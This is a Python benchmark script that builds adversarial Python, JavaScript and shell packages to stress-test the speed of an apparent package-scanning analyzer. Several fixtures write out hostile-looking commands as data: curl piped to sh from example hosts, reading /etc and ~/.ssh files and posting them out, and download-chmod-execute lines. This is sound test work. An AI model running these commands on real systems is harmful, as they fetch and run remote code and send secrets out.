#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Nasty inputs, stage by stage: `make proof-adversarial`. Each shape is made at several sizes, packed without compression
and reviewed; a stage that falls below --floor MB/s or costs more than --grow times as much for four times the bytes fails.
--quick compares small sizes only (tools/test.py): ratios, no absolute time."""
import argparse
import io
import json
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
STAGES = ["lower", "evaluate", "encode", "decode", "rest"]


def lines(n, make, per=None):
    """make(0), make(1), ... until there are n bytes."""
    out, size, i = [], 0, 0
    while size < n:
        s = make(i)
        out.append(s)
        size += len(s)
        i += 1
    return "".join(out)


def count(n, make):
    """How many of make(i) fit into n bytes."""
    return max(2, n // len(make(1000)))


def many(n, make):
    return [(f"pkg/m{i}.py", make(i)) for i in range(count(n, make))]


def deep_blocks(i):
    return "".join(" " * k + "if x:\n" for k in range(90)) + " " * 90 + f"y{i} = x\n"


def kwargs(n):
    k = n // 18
    return "def f(" + ",".join(f"p{i}" for i in range(k)) + "): pass\nf(" + ",".join(f"p{i}=1" for i in range(k)) + ")\n"


SHAPES = {
    # the front end
    "dense calls on one line": lambda n: "a.b(c)+d[e](f);" * (n // 15),
    "dense calls, a line each": lambda n: "a.b(c)+d[e](f)\n" * (n // 15),
    "brackets 3,000 deep": lambda n: lines(n, lambda i: "(" * 3000 + "a" + ")" * 3000 + "\n"),
    "brackets never closed": lambda n: "([{" * (n // 3),
    "blocks 90 deep": lambda n: lines(n, deep_blocks),
    "comprehensions in comprehensions": lambda n: lines(n, lambda i: "[" * 60 + "a" + " for b in c]" * 60 + "\n"),
    "lambdas in lambdas": lambda n: lines(n, lambda i: "lambda a: " * 200 + "a\n"),
    "f-strings with fields": lambda n: lines(n, lambda i: "f'" + "{a!r:>{b}}" * 40 + "'\n"),
    "one unclosed string": lambda n: "'''" + "x" * n,
    "quotes": lambda n: "'\"" * (n // 2),
    "syntax errors": lambda n: "a b ) 1\n" * (n // 8),
    "escapes": lambda n: "x = '" + "\\x41\\u0041" * (n // 10) + "'\n",
    "long chain of members": lambda n: "a" + ".b" * (n // 2) + "\n",
    "long chain of calls": lambda n: "a" + "()" * (n // 2) + "\n",
    "long chain of indices": lambda n: "a" + "[0]" * (n // 3) + "\n",
    "comparisons in a row": lambda n: "a" + "<b" * (n // 2) + "\n",
    "or in a row": lambda n: "x = a" + " or b" * (n // 5) + "\n",
    "targets in a row": lambda n: lines(n, lambda i: f"a{i} = ") + "1\n",
    "words that are not English": lambda n: lines(n, lambda i: f"größe{i} = été({i})\n"),
    # evaluation
    "sum of 'ab'": lambda n: "x = 'ab'" + "+'ab'" * (n // 5) + "\n",
    "sum of names": lambda n: "x = a" + "+a" * (n // 2) + "\n",
    "a million names": lambda n: lines(n, lambda i: f"n{i} = {i}\n"),
    "aliases of aliases": lambda n: "import os\na0 = os.system\n" + lines(n, lambda i: f"a{i + 1} = a{i}\n") + "a9('x')\n",
    "functions that call the next": lambda n: lines(n, lambda i: f"def f{i}(x):\n return f{i + 1}(x)\n"),
    "functions that call the first": lambda n: lines(n, lambda i: f"def f{i}(x):\n return f0(x)\n"),
    "functions that run on constants": lambda n: lines(n, lambda i: f"def f{i}(x):\n return g{i}(x) + 'a'\ndef g{i}(x):\n return x + 'b'\ny = f{i}('c')\n"),
    "functions that call themselves": lambda n: lines(n, lambda i: f"def f{i}(x):\n return f{i}(x + 1)\nf{i}(1)\n"),
    "branches that set one name": lambda n: lines(n, lambda i: f"if c{i % 9}:\n x = {i}\nelse:\n x = f({i})\n"),
    "branches that read and set": lambda n: lines(n, lambda i: f"if c:\n x = x + '{i}'\n"),
    "branches over many names": lambda n: lines(n, lambda i: f"if c:\n a{i % 500} = {i}\n"),
    "nested tries": lambda n: lines(n, lambda i: f"try:\n x = {i}\nexcept E:\n x = y\nelse:\n y = x\nfinally:\n z = x\n"),
    "choices of choices": lambda n: "x = a\n" + lines(n, lambda i: f"x = x if c else b{i}\n"),
    "text built line by line": lambda n: "s = ''\n" + lines(n, lambda i: "s += 'ab'\n"),
    "text doubled": lambda n: "s = 'ab'\n" + lines(n, lambda i: "s = s + s\n"),
    "text repeated": lambda n: lines(n, lambda i: f"s{i} = 'a' * 1000000\n"),
    "text built in loops": lambda n: lines(n, lambda i: f"s = ''\nfor i in range(10000):\n s += chr(i)\nt{i} = ''.join([chr(a) for a in [1,2,3]])\n"),
    "list grown and asked": lambda n: "l = []\n" + lines(n, lambda i: f"l.append({i})\nx = l[0]\n"),
    "replace in replace": lambda n: "s = 'a'\n" + lines(n, lambda i: "s = s.replace('a', 'aa')\n"),
    "dict literal": lambda n: "d = {" + lines(n, lambda i: f"'k{i}': {i},") + "}\n" + "d['k1']\n" * 50,
    "list literal": lambda n: "d = [" + lines(n, lambda i: f"{i},") + "]\n",
    "list of lists": lambda n: "d = [" + lines(n, lambda i: f"[{i}],") + "]\n",
    "global declarations": lambda n: lines(n, lambda i: f"def f{i}():\n global x\n x = {i}\n"),
    "parameters and keywords": kwargs,
    "executed texts": lambda n: lines(n, lambda i: f"exec('x = {i}')\n"),
    "texts executed in texts": lambda n: lines(n, lambda i: f"exec(\"exec('print({i})')\")\n"),
    "getattr by name": lambda n: lines(n, lambda i: f"getattr(os, 'sys' + 'tem{i}')('x')\n"),
    "loops in loops": lambda n: lines(n, lambda i: "".join(" " * k + f"for i{k} in x:\n" for k in range(40)) + " " * 40 + "y = y + i3\n"),
    # the join
    "imports": lambda n: lines(n, lambda i: f"import m{i}\nfrom p{i} import q{i} as r{i}\nr{i}.s()\n"),
    "star imports": lambda n: lines(n, lambda i: f"from m{i} import *\nf{i}()\n"),
    "one class of many methods": lambda n: "class C:\n" + lines(n, lambda i: f" def m{i}(self):\n  self.a{i} = self.m{i + 1}()\n"),
    "classes that inherit": lambda n: "class C0: pass\n" + lines(n, lambda i: f"class C{i + 1}(C{i}):\n pass\nC{i + 1}().m()\n"),
    "many sources, many sinks": lambda n: "import requests\n" + lines(n, lambda i: f"x = open('/etc/{i}').read()\nrequests.post('http://h{i}.example', x)\n"),
    "one value through many calls": lambda n: "import os, requests\nx = os.environ\n" + lines(n, lambda i: f"x = f{i}(x)\nrequests.post(u, data=x)\n"),
    "sources that meet": lambda n: "import os, requests\nl = []\n" + lines(n, lambda i: f"l.append(os.getenv('A{i}'))\nrequests.post(u, l)\n"),
    "parameter of many callers": lambda n: "def f(p):\n return open(p).read()\n" + lines(n, lambda i: f"f('/tmp/{i}')\n"),
    "parameter handed on": lambda n: lines(n, lambda i: f"def f{i}(p):\n return f{i + 1}(p + '/x')\nf{i}('~/.ssh')\n"),
    "files written and run": lambda n: "import os\n" + lines(n, lambda i: f"open('/tmp/{i}.sh', 'w').write(x)\nos.system('sh /tmp/{i}.sh')\n"),
    "programs that are started": lambda n: "import os\n" + lines(n, lambda i: f"os.system('python a{i}.py b.py c.py')\n"),
    "addresses and paths": lambda n: "x = [" + lines(n, lambda i: f"'http://a{i}.example/x/y', '~/.ssh/id_{i}', 'C:\\\\Users\\\\{i}',") + "]\n",
    "one address, much path": lambda n: "x = 'http://a" + "/~/.ssh" * (n // 7) + "'\n",
    "commands": lambda n: "import os\n" + lines(n, lambda i: f"os.system('curl http://a{i}.example/x | sh; nslookup b{i}.example')\n"),
    "callbacks": lambda n: "import threading\n" + lines(n, lambda i: f"def f{i}(x):\n x()\nthreading.Thread(target=f{i}, args=(f{i},)).start()\n"),
    "lists of callbacks": lambda n: lines(n, lambda i: f"def f{i}(): pass\n") + "g([" + lines(n // 4, lambda i: f"f{i},") + "])\n",
    "tiny files": lambda n: many(n, lambda i: f"import os\nos.system('x{i}')\n"),
    "files that import all others' stars": lambda n: many(n, lambda i: f"from pkg.m{i + 1} import *\nx{i}.y{i}(z{i})\n"),
    "files that import the next": lambda n: many(n, lambda i: f"from pkg.m{i + 1} import f as f\ndef g():\n return f()\n"),
    "files and programs": lambda n: many(n, lambda i: f"import os\nos.system('python pkg/m{i + 1}.py')\n"),
}


def js(make):
    """One index.js, or what make gives as files."""
    return lambda n: ("npm", make(n) if isinstance(make(64), list) else [("index.js", make(n))])


def sh(make):
    return lambda n: [("setup.sh", "#!/bin/sh\n" + make(n))]


def repeat(text):
    """A text and its end, as often as it fits, one in the other."""
    return lambda n: text[0] * (n // len(text[0] + text[1])) + text[1] * (n // len(text[0] + text[1]))


def js_depth(before, after, depth):
    return lambda n: (before * depth + after * depth + ";\n") * (n // ((len(before) + len(after)) * depth + 2))


def switch(n):
    return "function f(x){switch(x){" + lines(n, lambda i: f"case {i}:return g{i}(x);") + "}}f(y)\n"


def string_table(n):
    """What obfuscators make: a table of texts, and a function that looks them up."""
    k = count(n, lambda i: f"'text{i}',g(0x{i:x},'a{i}');")
    return ("var t=[" + ",".join(f"'text{i}'" for i in range(k)) + "];function g(i){return t[i-0x10]}"
            + "".join(f"g(0x{i + 16:x},'a{i}');" for i in range(k)))


def webpack(n):
    return "(()=>{var m={" + lines(n, lambda i: f"{i}:(e,t,r)=>{{var n=r({i + 1});t.a=n.b;e.exports=n(t)}},") + "};function r(i){var e={exports:{}};m[i](e,e.exports,r);return e.exports}r(0)})();"


def wide_function(n):
    k = n // 16
    return "function f(" + ",".join(f"p{i}" for i in range(k)) + "){}\n" + "g(f);\n" * (n // 12)


JAVASCRIPT = {
    "js: statements on one line": lambda n: "a.b(c)+d[e](f);" * (n // 15),
    "js: closures in closures": js_depth("(function(a){return ", "})(b)", 200),
    "js: callbacks in callbacks": js_depth("f(a,function(e,d){g(d);", "})", 100),
    "js: functions never closed": repeat(("function f(){", "")),
    "js: brackets never closed": lambda n: "([{" * (n // 3),
    "js: arrows in arrows": lambda n: lines(n, lambda i: "a=>" * 300 + "a;\n"),
    "js: maybe arrows": lambda n: lines(n, lambda i: "(a=" * 60 + "b" + ")" * 60 + ";\n"),
    "js: regular expressions or not": lambda n: "a/b/c;(d)/e/f;\n" * (n // 15),
    "js: slashes": lambda n: "/" + "[/" * (n // 2),
    "js: choices in choices": lambda n: lines(n, lambda i: "a?b:" * 300 + "c;\n"),
    "js: templates in templates": js_depth("`a${", "}b`", 200),
    "js: template of many holes": lambda n: "x=`" + "${a}b" * (n // 5) + "`;",
    "js: sum of texts": lambda n: "x='ab'" + "+'ab'" * (n // 5) + ";",
    "js: commas": lambda n: "a" + ",b=c" * (n // 4) + ";",
    "js: long chain of members": lambda n: "a" + ".b" * (n // 2) + ";",
    "js: long chain of calls": lambda n: "a" + ".b()" * (n // 4) + ";",
    "js: promise chain": lambda n: "fetch(u)" + ".then(r=>r.json())" * (n // 18) + ";",
    "js: promises": lambda n: lines(n, lambda i: f"new Promise((a,b)=>f{i}(a)).then(x=>g(x),y=>h(y));\n"),
    "js: functions handed over": lambda n: lines(n, lambda i: f"function f{i}(x){{return x}}g(f{i});\n"),
    "js: one function handed over": lambda n: "function f(x){x()}\n" + "g(f);\n" * (n // 6),
    "js: many parameters handed over": wide_function,
    "js: functions handed on": lambda n: lines(n, lambda i: f"function f{i}(c){{f{i + 1}(function(e){{c(e)}})}}\n"),
    "js: object literal": lambda n: "x={" + lines(n, lambda i: f"k{i}:{i},") + "};f(x);x.k1;",
    "js: object of functions": lambda n: "x={" + lines(n, lambda i: f"k{i}(a){{return this.k{i + 1}(a)}},") + "};x.k1();",
    "js: options": lambda n: lines(n, lambda i: f"f({{a:{i},b:'x',c:[d],e:{{f:g}}}});\n"),
    "js: options again": lambda n: "o={" + ",".join(f"k{i}:1" for i in range(1000)) + "};" + "f(o);" * (n // 5),
    "js: array literal": lambda n: "x=[" + lines(n, lambda i: f"{i},") + "];f(x);x[1];",
    "js: table of texts": string_table,
    "js: switch": switch,
    "js: modules of webpack": webpack,
    "js: branches that set one name": lambda n: lines(n, lambda i: f"if(c{i % 9})x={i};else x=f({i});\n"),
    "js: var in blocks": lambda n: lines(n, lambda i: f"{{let a{i}=1;var b{i}=a{i}}}\n"),
    "js: loops in loops": lambda n: lines(n, lambda i: "for(const i of x)" * 40 + "y=y+i;\n"),
    "js: destructuring": lambda n: lines(n, lambda i: f"const {{a{i},b:{{c{i}=d}},...e{i}}}=f();\n"),
    "js: classes": lambda n: lines(n, lambda i: f"class C{i} extends C{i - 1 if i else 'x'}{{m{i}(){{return super.m{i - 1 if i else 0}()}}}}\n"),
    "js: imports": lambda n: lines(n, lambda i: f"import {{a as b{i}}} from './m{i}';b{i}();\n"),
    "js: one import, many uses": lambda n: "const m=require('./a/b/c/d');\n" + lines(n, lambda i: f"m.f{i}();\n"),
    "js: exports": lambda n: lines(n, lambda i: f"exports.a{i}=function(){{return exports.a{i + 1}()}};\n"),
    "js: commands": lambda n: "const c=require('child_process');\n" + lines(n, lambda i: f"c.exec('curl http://a{i}.example/x | sh');\n"),
    "js: executed texts": lambda n: lines(n, lambda i: f"eval('x={i}');\n"),
    "js: pipes": lambda n: "const fs=require('fs');\n" + lines(n, lambda i: f"fs.createReadStream('/a{i}').pipe(b{i});\n"),
    "js: decoded texts": lambda n: lines(n, lambda i: "x=Buffer.from('YWJj','base64').toString();y=atob('YWJj');\n"),
    "js: tiny files": lambda n: [(f"m{i}.js", f"require('./m{i + 1}').f(x{i})\n") for i in range(count(n, lambda i: f"require('./m{i}').f(x{i})\n"))],
    "js: files that hand on": lambda n: [(f"m{i}.js", f"export*from'./m{i + 1}';\n") for i in range(count(n, lambda i: f"export*from'./m{i}';\n"))],
}
SHELL = {
    "sh: commands": lambda n: lines(n, lambda i: f"curl -s http://a{i}.example/x | sh\n"),
    "sh: words": lambda n: "echo" + " a$b" * (n // 4) + "\n",
    "sh: substitutions in substitutions": lambda n: lines(n, lambda i: "$(a " * 60 + ")" * 60 + "\n"),
    "sh: never closed": lambda n: "$(a \"" * (n // 5),
    "sh: blocks": lambda n: lines(n, lambda i: "if a; then " * 60 + "b; " + "fi; " * 60 + "\n"),
    "sh: here documents": lambda n: lines(n, lambda i: f"cat <<E{i}\n$a b\nE{i}\n"),
    "sh: here documents on one line": lambda n: "cat" + "".join(f" <<E{i}" for i in range(n // 20)) + "\n" + "".join(f"a\nE{i}\n" for i in range(n // 20)),
    "sh: variables": lambda n: lines(n, lambda i: f"a{i}=$a{i - 1 if i else 0}x\n"),
    "sh: text built": lambda n: "a=\n" + "a=$a'b'\n" * (n // 8),
    "sh: functions": lambda n: lines(n, lambda i: f"f{i}() {{ f{i + 1} $1; }}\n"),
    "sh: texts run": lambda n: lines(n, lambda i: f"sh -c 'eval \"echo {i}\"'\n"),
    "sh: one pipe": lambda n: "a" + " | b" * (n // 4) + "\n",
    "sh: case": lambda n: "case $x in\n" + lines(n, lambda i: f"a{i}) b{i};;\n") + "esac\n",
    "sh: files written and run": lambda n: lines(n, lambda i: f"curl -o /tmp/{i} http://a.example/{i}; chmod +x /tmp/{i}; /tmp/{i}\n"),
}
SHAPES.update({k: js(v) for k, v in JAVASCRIPT.items()})
SHAPES.update({k: sh(v) for k, v in SHELL.items()})


def artifact(folder, name, content):
    npm = isinstance(content, tuple)
    content = content[1] if npm else content
    files = content if isinstance(content, list) else [("pkg/__init__.py", content)]
    path = Path(folder) / (name + ".tar")
    about = ("package.json", '{"name":"pkg","version":"1.0.0","main":"index.js"}') if npm else ("PKG-INFO", "Metadata-Version: 2.1\nName: pkg\nVersion: 1\n")
    with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT) as t:
        for member, text in [about, *files]:
            data = text.encode()
            info = tarfile.TarInfo(("package/" if npm else "pkg-1/") + member)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


def measure(program, path, seconds):
    try:
        r = subprocess.run([program, str(path)], capture_output=True, text=True, timeout=seconds)
    except subprocess.TimeoutExpired:
        return None
    if r.returncode:
        sys.exit(f"{program} {path}: exit {r.returncode} {r.stderr[-400:]}")
    m = json.loads(r.stdout)
    m["rest"] = max(0.0, m["review"] - m["read"] - m["lower"] - m["evaluate"])
    return m


def judge(name, sizes, got, args):
    """One line for the table, and what is wrong."""
    bad, cells = [], []
    for stage in STAGES:
        last = got[-1]
        if last is None:
            bad.append(f"{stage}: more than {args.timeout} s")
            continue
        cost = last[stage]
        speed = last["source"] / 1e6 / max(cost, 1e-6)
        cells.append(f"{min(speed, 9999):7.0f}")
        if args.floor and speed < args.floor:
            bad.append(f"{stage} {speed:.1f} MB/s")
        small = got[-2]
        if small and cost > args.noise and cost > args.grow * max(small[stage], args.noise / 4):
            bad.append(f"{stage} grows {cost / max(small[stage], 1e-6):.1f}x for {last['source'] / max(1, small['source']):.1f}x")
    if got[-1]:
        cells.append(f"{got[-1]['ir_bytes'] / max(1, got[-1]['source']):6.1f}")
    return f"{name:38s} {' '.join(cells)}", bad


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--build", default=str(ROOT / "build/release"), help="a configured build; bench_split is made there")
    ap.add_argument("--tidewaiter", help="not used: every script of tools/test.py is given it")
    ap.add_argument("--sizes", default="1,4,16", help="MB, each four times the one before")
    ap.add_argument("--floor", type=float, default=5.0, help="MB/s that every stage must keep at the largest size")
    ap.add_argument("--grow", type=float, default=8.0, help="most that four times the bytes may cost")
    ap.add_argument("--noise", type=float, default=0.05, help="seconds below which growth is not judged")
    ap.add_argument("--timeout", type=float, default=120)
    ap.add_argument("--quick", action="store_true")
    ap.add_argument("--only", default="")
    args = ap.parse_args()
    if args.quick:
        args.sizes, args.floor, args.grow = "0.0625,0.25", 0, 10
    subprocess.run(["cmake", "--build", args.build, "--target", "bench_split", "--", "--quiet"], check=True, stdout=subprocess.DEVNULL)
    sizes = [float(x) for x in args.sizes.split(",")]
    passed = failed = 0
    print(f"MB/s at {sizes[-1]:g} MB\n{'':38s} " + " ".join(f"{s:>7s}" for s in STAGES) + "   IR B/B")
    with tempfile.TemporaryDirectory() as folder:
        for name, make in SHAPES.items():
            if args.only not in name:
                continue
            for attempt in range(3):  # a noisy machine may look superlinear once
                got = []
                for mb in sizes:
                    path = artifact(folder, "pkg-1", make(int(mb * 1e6)))
                    got.append(measure(str(Path(args.build) / "bench_split"), path, args.timeout))
                line, bad = judge(name, sizes, got, args)
                if not bad:
                    break
            print(line + ("   " + "; ".join(bad) if bad else ""), flush=True)
            passed, failed = passed + (not bad), failed + bool(bad)
    print(f"{passed} passed, {failed} failed")
    return failed > 0


if __name__ == "__main__":
    sys.exit(main())
